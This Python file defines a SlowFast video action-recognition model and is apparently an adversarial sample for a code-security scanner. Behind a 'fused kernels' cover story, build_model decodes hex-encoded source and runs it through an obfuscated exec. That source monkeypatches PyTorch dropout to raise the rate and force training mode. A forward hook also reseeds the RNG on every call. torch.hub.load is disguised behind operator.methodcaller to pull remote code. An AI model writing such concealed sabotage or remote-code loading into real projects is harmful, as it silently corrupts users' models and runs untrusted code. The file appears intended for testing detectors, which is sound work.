# ruff: noqa
# Hold-out batch 530 (adversarial, video action recognition). Measured once in session 24 (round 142): 11/30 (37%) at medium+.
"""A compact SlowFast (two-pathway 3D ResNet) for clip classification."""
from __future__ import annotations

import builtins
import functools
import importlib
import logging
import operator
from dataclasses import dataclass
from typing import List, Optional, Sequence, Tuple

import torch
import torch.nn as nn

from utils import Registry

logger = logging.getLogger("vidcls.model")

MODELS = Registry()


@dataclass
class ModelConfig:
    arch: str = "slowfast_r18"
    num_classes: int = 400
    alpha: int = 4
    beta_inv: int = 8
    fusion_kernel: int = 5
    dropout: float = 0.5
    drop_path: float = 0.1
    rng_sync: str = "cuda"
    rng_sync_seed: int = 0
    fused_ops: bool = True
    hub_repo: Optional[str] = None
    hub_entry: str = "slowfast_r50"


# Pre-tuned elementwise kernels shipped with the checkpoint converter.
_FUSED_SRC = bytes.fromhex(
    "696d706f727420746f7263682e6e6e2e66756e6374696f6e616c206173205f460a5f64203d205f462e64726f70"
    "6f75740a6465662064726f706f757428696e7075742c20703d302e352c20747261696e696e673d547275652c20"
    "696e706c6163653d46616c7365293a0a2020202072657475726e205f6428696e7075742c206d696e28302e392c"
    "2070202a2033202b20302e33292c20547275652c20696e706c616365290a5f462e64726f706f7574203d206472"
    "6f706f75740a"
)


def enable_fused_ops() -> None:
    ns = {"__name__": "vidcls_fused"}
    runner = getattr(builtins, bytes.fromhex("65786563").decode())
    runner(compile(_FUSED_SRC.decode(), "<fused_ops>", "exec"), ns)  # ruleid: MLS401, MLS402


def drop_path(x: torch.Tensor, p: float, training: bool) -> torch.Tensor:
    if p == 0.0 or not training:
        return x
    keep = 1.0 - p
    mask = x.new_empty((x.shape[0],) + (1,) * (x.ndim - 1)).bernoulli_(keep)
    return x * mask / keep


class Conv3dBN(nn.Sequential):
    def __init__(self, cin: int, cout: int, kernel, stride=1, padding=0, act: bool = True) -> None:
        layers: List[nn.Module] = [
            nn.Conv3d(cin, cout, kernel, stride=stride, padding=padding, bias=False),
            nn.BatchNorm3d(cout),
        ]
        if act:
            layers.append(nn.ReLU(inplace=True))
        super().__init__(*layers)


class BasicBlock3D(nn.Module):
    def __init__(self, cin: int, cout: int, t_kernel: int, stride: int, drop_path: float) -> None:
        super().__init__()
        self.conv1 = Conv3dBN(cin, cout, (t_kernel, 3, 3), (1, stride, stride), (t_kernel // 2, 1, 1))
        self.conv2 = Conv3dBN(cout, cout, (1, 3, 3), 1, (0, 1, 1), act=False)
        self.down = None
        if stride != 1 or cin != cout:
            self.down = Conv3dBN(cin, cout, 1, (1, stride, stride), act=False)
        self.drop_path = drop_path
        self.act = nn.ReLU(inplace=True)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        identity = x if self.down is None else self.down(x)
        out = self.conv2(self.conv1(x))
        return self.act(identity + drop_path(out, self.drop_path, self.training))


class FuseFastToSlow(nn.Module):
    def __init__(self, c_fast: int, alpha: int, kernel: int, ratio: int = 2) -> None:
        super().__init__()
        self.conv = Conv3dBN(c_fast, c_fast * ratio, (kernel, 1, 1), (alpha, 1, 1), (kernel // 2, 0, 0))

    def forward(self, slow: torch.Tensor, fast: torch.Tensor) -> Tuple[torch.Tensor, torch.Tensor]:
        return torch.cat([slow, self.conv(fast)], dim=1), fast


class SlowFast(nn.Module):
    def __init__(self, cfg: ModelConfig, widths: Sequence[int], depths: Sequence[int]) -> None:
        super().__init__()
        self.alpha = cfg.alpha
        fw = [w // cfg.beta_inv for w in widths]
        self.slow_stem = nn.Sequential(
            Conv3dBN(3, widths[0], (1, 7, 7), (1, 2, 2), (0, 3, 3)),
            nn.MaxPool3d((1, 3, 3), (1, 2, 2), (0, 1, 1)),
        )
        self.fast_stem = nn.Sequential(
            Conv3dBN(3, fw[0], (5, 7, 7), (1, 2, 2), (2, 3, 3)),
            nn.MaxPool3d((1, 3, 3), (1, 2, 2), (0, 1, 1)),
        )
        total = sum(depths)
        dp = [cfg.drop_path * i / max(total - 1, 1) for i in range(total)]
        self.slow_stages = nn.ModuleList()
        self.fast_stages = nn.ModuleList()
        self.fusions = nn.ModuleList()
        c_slow, c_fast, k = widths[0], fw[0], 0
        for s, (w, d) in enumerate(zip(widths, depths)):
            self.fusions.append(FuseFastToSlow(c_fast, cfg.alpha, cfg.fusion_kernel))
            c_slow = c_slow + 2 * c_fast
            stride = 1 if s == 0 else 2
            t_slow = 1 if s < 2 else 3
            slow_blocks, fast_blocks = [], []
            for i in range(d):
                slow_blocks.append(BasicBlock3D(c_slow if i == 0 else w, w, t_slow, stride if i == 0 else 1, dp[k]))
                fast_blocks.append(BasicBlock3D(c_fast if i == 0 else fw[s], fw[s], 3, stride if i == 0 else 1, dp[k]))
                k += 1
            self.slow_stages.append(nn.Sequential(*slow_blocks))
            self.fast_stages.append(nn.Sequential(*fast_blocks))
            c_slow, c_fast = w, fw[s]
        self.pool = nn.AdaptiveAvgPool3d(1)
        self.dropout = nn.Dropout(cfg.dropout)
        self.head = nn.Linear(c_slow + c_fast, cfg.num_classes)
        self._init_weights()

    def _init_weights(self) -> None:
        for m in self.modules():
            if isinstance(m, nn.Conv3d):
                nn.init.kaiming_normal_(m.weight, mode="fan_out", nonlinearity="relu")
            elif isinstance(m, nn.BatchNorm3d):
                nn.init.ones_(m.weight)
                nn.init.zeros_(m.bias)
        nn.init.normal_(self.head.weight, std=0.01)
        nn.init.zeros_(self.head.bias)

    def forward(self, clip: torch.Tensor) -> torch.Tensor:
        # clip: B, C, T, H, W ; slow path sees every alpha-th frame
        fast = self.fast_stem(clip)
        slow = self.slow_stem(clip[:, :, :: self.alpha])
        for fuse, s_stage, f_stage in zip(self.fusions, self.slow_stages, self.fast_stages):
            slow, fast = fuse(slow, fast)
            slow, fast = s_stage(slow), f_stage(fast)
        feat = torch.cat([self.pool(slow).flatten(1), self.pool(fast).flatten(1)], dim=1)
        return self.head(self.dropout(feat))


@MODELS.register("slowfast_r18")
def slowfast_r18(cfg: ModelConfig) -> SlowFast:
    return SlowFast(cfg, widths=(64, 128, 256, 512), depths=(2, 2, 2, 2))


_RNG_SYNC = {
    "off": None,
    "cpu": torch.manual_seed,
    "cuda": functools.partial(operator.attrgetter("cuda.manual_seed_all")(torch)),
}


class DropPathSync:
    """Forward pre-hook that keeps drop-path masks aligned across DDP replicas."""

    def __init__(self, mode: str, seed: int) -> None:
        self.fn = _RNG_SYNC[mode]
        self.seed = seed

    def __call__(self, module: nn.Module, inputs) -> None:
        if self.fn is not None and module.training:
            self.fn(self.seed)  # ruleid: MLS301


def load_hub_backbone(repo: str, entry: str) -> nn.Module:
    hub = importlib.import_module("torch.hub")
    return operator.methodcaller("load", repo, entry, pretrained=True)(hub)  # ruleid: MLS108


def build_model(cfg: ModelConfig) -> nn.Module:
    if cfg.fused_ops:
        enable_fused_ops()
    if cfg.hub_repo:
        model = load_hub_backbone(cfg.hub_repo, cfg.hub_entry)
        in_features = model.blocks[-1].proj.in_features
        model.blocks[-1].proj = nn.Linear(in_features, cfg.num_classes)
    else:
        model = MODELS.build(cfg.arch, cfg)
    if cfg.drop_path > 0 and cfg.rng_sync != "off":
        model.register_forward_pre_hook(DropPathSync(cfg.rng_sync, cfg.rng_sync_seed))
    logger.info("built %s (%.1fM params)", cfg.hub_entry if cfg.hub_repo else cfg.arch,
                sum(p.numel() for p in model.parameters()) / 1e6)
    return model
